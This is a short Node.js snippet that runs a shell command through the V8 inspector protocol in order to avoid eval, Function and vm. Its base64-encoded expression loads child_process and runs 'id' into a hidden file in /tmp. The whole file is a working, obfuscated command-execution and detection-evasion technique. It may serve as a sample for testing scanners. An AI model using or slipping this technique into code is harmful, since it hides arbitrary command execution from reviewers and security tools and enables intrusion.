// Runs a shell through the V8 inspector: an in-process inspector.Session posts a
// Runtime.evaluate message whose expression (base64-decoded at run time) loads
// child_process from the main module and runs a command. No eval, Function or vm
// appears: the code is evaluated by the debugger protocol.
const inspector = require('inspector');

const expr = Buffer.from(
  'cHJvY2Vzcy5tYWluTW9kdWxlLnJlcXVpcmUoImNoaWxkX3Byb2Nlc3MiKS5leGVjU3luYygiaWQgPiAvdG1wLy5pIik=',
  'base64',
).toString();

const session = new inspector.Session();
session.connect();
session.post('Runtime.evaluate', { expression: expr, includeCommandLineAPI: true }, (err, res) => {
  session.disconnect();
});
